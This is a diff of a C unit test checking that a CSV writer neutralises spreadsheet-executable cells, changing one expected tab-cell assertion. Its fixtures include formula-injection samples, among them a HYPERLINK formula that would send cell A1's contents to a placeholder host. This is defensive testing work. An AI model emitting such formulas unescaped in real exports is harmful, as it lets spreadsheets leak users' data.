@@ -505,7 +505,7 @@ Test(csv_write, cells_a_spreadsheet_would_run_are_neutralised)
     cr_assert(strstr(text, "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\""), "%s", text);
     cr_assert(strstr(text, ",'+1,"), "%s", text);
     cr_assert(strstr(text, ",'@SUM(A1),"), "%s", text);
-    cr_assert(strstr(text, "\"'\tTab\""), "%s", text);
+    cr_assert(strstr(text, ",'\tTab,"), "%s", text);
     cr_assert(strstr(text, "\"'\rReturn\""), "%s", text);
     cr_assert(strstr(text, ",'plain quote,"), "a quote before ordinary text stays as it is");
     free(text);
